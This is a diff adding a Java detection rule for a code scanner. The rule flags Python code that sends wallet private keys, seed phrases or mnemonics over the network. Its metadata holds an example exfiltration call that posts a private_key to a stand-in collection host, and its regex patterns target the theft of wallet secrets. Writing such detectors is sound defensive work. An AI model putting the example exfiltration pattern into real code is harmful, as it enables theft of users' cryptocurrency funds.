@@ -1,0 +1,166 @@
+package dev.kingsnake.rules.exfil;
+
+import dev.kingsnake.Confidence;
+import dev.kingsnake.Severity;
+import dev.kingsnake.rules.network.Capability;
+import dev.kingsnake.rules.network.CodeFacts;
+import dev.kingsnake.rules.network.CollectedDataSendRule;
+import dev.kingsnake.spi.FindingSink;
+import dev.kingsnake.spi.Location;
+import dev.kingsnake.spi.PythonFile;
+import dev.kingsnake.spi.PythonFileRule;
+import dev.kingsnake.spi.RuleContext;
+import dev.kingsnake.spi.RuleInfo;
+import dev.kingsnake.spi.Tags;
+import dev.kingsnake.spi.python.Expr;
+import dev.kingsnake.spi.python.Node;
+
+import java.util.ArrayDeque;
+import java.util.ArrayList;
+import java.util.Deque;
+import java.util.HashSet;
+import java.util.List;
+import java.util.Optional;
+import java.util.Set;
+import java.util.regex.Pattern;
+
+/**
+ * Wallet key material (a private key, a seed phrase or mnemonic) put into data that leaves over the network.
+ * Wallet libraries sign locally; sending the key itself anywhere is what wallet drainers do.
+ */
+public final class KeyMaterialSendRule implements PythonFileRule {
+
+    private static final RuleInfo INFO = new RuleInfo("KS-EXFIL-KEY-MATERIAL",
+            "Sends wallet key material over the network: a value named like a private key, seed phrase or "
+                    + "mnemonic is part of the data of a POST, upload, bot message or run-time built request URL",
+            Severity.HIGH, Confidence.HIGH, Set.of(Tags.CREDENTIALS, Tags.EXFILTRATION),
+            "requests.post('https://collect.example.invalid/k', json={'key': private_key})",
+            "Only private keys, seed phrases and mnemonics count (not API secrets or tokens, which clients "
+                    + "legitimately send to their own service), and only when the named value is inside the data "
+                    + "of a sending call, directly or through a variable assigned in the same function.");
+
+    /** Identifiers of key material: private_key, privkey, priv_key, seed_phrase, mnemonic, recovery phrase... */
+    static final Pattern KEY_NAME = Pattern.compile(
+            "(?i)^_*(\\w*_)?(private_?key|priv_?key|pk_?hex|secret_?phrase|seed_?phrase|seed_?words|mnemonic"
+                    + "|mnemonic_?phrase|recovery_?phrase|wallet_?seed|keypair_?secret)(_\\w*)?s?$");
+
+    private static final int MAX_NODES = 2000;
+    /** Names that only wallets have; a plain "private key" needs the file to be about wallets. */
+    private static final Pattern WALLET_ONLY_NAME = Pattern.compile("(?i)(seed|mnemonic|recovery|phrase|wallet)");
+    /** Words of cryptocurrency wallets in the file's strings or imported modules. */
+    private static final Pattern WALLET_CONTEXT = Pattern.compile(
+            "(?i)(wallet|mnemonic|seed.?phrase|\\btron|solana|solders|ethereum|\\beth_|web3|bitcoin|\\bbtc\\b"
+                    + "|keypair|lamports|metamask|phantom|base58|bip_?39|bip_?32|secp256k1|coincurve|tronpy)");
+
+    private static boolean walletContext(PythonFile file, CodeFacts facts) {
+        for (CodeFacts.StringFact s : facts.strings()) {
+            if (WALLET_CONTEXT.matcher(s.text()).find()) {
+                return true;
+            }
+        }
+        for (dev.kingsnake.spi.python.Stmt st : file.imports()) {
+            if (WALLET_CONTEXT.matcher(importText(st)).find()) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    private static String importText(dev.kingsnake.spi.python.Stmt st) {
+        StringBuilder sb = new StringBuilder();
+        if (st instanceof dev.kingsnake.spi.python.Stmt.ImportFrom f) {
+            sb.append(f.module()).append(' ');
+            f.names().forEach(a -> sb.append(a.name()).append(' '));
+        } else if (st instanceof dev.kingsnake.spi.python.Stmt.Import i) {
+            i.names().forEach(a -> sb.append(a.name()).append(' '));
+        }
+        return sb.toString();
+    }
+
+    @Override
+    public RuleInfo info() {
+        return INFO;
+    }
+
+    @Override
+    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
+        CodeFacts facts = CodeFacts.of(file);
+        if (!facts.fileCaps().contains(Capability.NETWORK)) {
+            return;
+        }
+        Set<Integer> lines = new HashSet<>();
+        for (CodeFacts.CallFact c : facts.calls()) {
+            boolean send = c.is(Capability.SEND);
+            boolean urlData = !send && c.is(Capability.FETCH)
+                    && CollectedDataSendRule.builtAtRunTime(facts, c.call(), c.scope());
+            if (!send && !urlData) {
+                continue;
+            }
+            List<Expr> data = new ArrayList<>(c.call().args());
+            for (Expr.Keyword k : c.call().keywords()) {
+                if (!"headers".equals(k.name()) && !"auth".equals(k.name())) {
+                    data.add(k.value());
+                }
+            }
+            Optional<String> named = keyNamed(facts, c.scope(), data);
+            if (named.isPresent() && !WALLET_ONLY_NAME.matcher(named.get()).find() && !walletContext(file, facts)) {
+                continue; // "private key" of an API (reCAPTCHA, payment gateways) is a shared secret, not a wallet key
+            }
+            if (named.isPresent() && lines.add(c.call().line())) {
+                sink.report(Location.of(file, c.call()), "sends wallet key material ('" + named.get() + "') over the network",
+                        file.line(c.call().line()).strip());
+            }
+        }
+    }
+
+    /** Calls whose result still contains their arguments: serialising, encoding, formatting, containers. */
+    private static final Set<String> CARRIERS = Set.of("str", "repr", "dict", "list", "tuple", "set", "json.dumps",
+            "base64.b64encode", "base64.urlsafe_b64encode", "base64.b32encode", "binascii.hexlify", "bytes",
+            "urllib.parse.urlencode", "urllib.parse.quote", "urllib.parse.quote_plus");
+
+    private static boolean carries(CodeFacts facts, Expr.Call call) {
+        String qn = facts.file().calleeName(call).orElse("");
+        if (CARRIERS.contains(qn)) {
+            return true;
+        }
+        return call.callee() instanceof Expr.Attribute a
+                && ("format".equals(a.attr()) || "encode".equals(a.attr()) || "decode".equals(a.attr())
+                || "join".equals(a.attr()) || "hex".equals(a.attr()));
+    }
+
+    /** The first key-material name inside the expressions, following variables assigned in the same scope once. */
+    private static Optional<String> keyNamed(CodeFacts facts, int scope, List<Expr> roots) {
+        Deque<Node> stack = new ArrayDeque<>(roots);
+        Set<String> followed = new HashSet<>();
+        int seen = 0;
+        while (!stack.isEmpty() && seen++ < MAX_NODES) {
+            Node n = stack.pop();
+            String id = null;
+            if (n instanceof Expr.Name nm) {
+                id = nm.id();
+                if (!KEY_NAME.matcher(id).matches() && followed.add(id)) {
+                    stack.addAll(facts.assignedIn(scope, id));
+                }
+            } else if (n instanceof Expr.Attribute a) {
+                id = a.attr();
+            } else if (n instanceof Expr.Dict d) {
+                for (Expr.DictItem item : d.items()) {
+                    Optional<String> k = item.key().flatMap(facts::text);
+                    if (k.isPresent() && KEY_NAME.matcher(k.get()).matches()) {
+                        return k;
+                    }
+                }
+            }
+            if (id != null && KEY_NAME.matcher(id).matches()) {
+                return Optional.of(id);
+            }
+            if (n instanceof Expr.Lambda || n instanceof Expr.Call call && !carries(facts, call)) {
+                continue; // a signature or hash derived from a key is not the key
+            }
+            for (Node k : n.children()) {
+                stack.push(k);
+            }
+        }
+        return Optional.empty();
+    }
+}
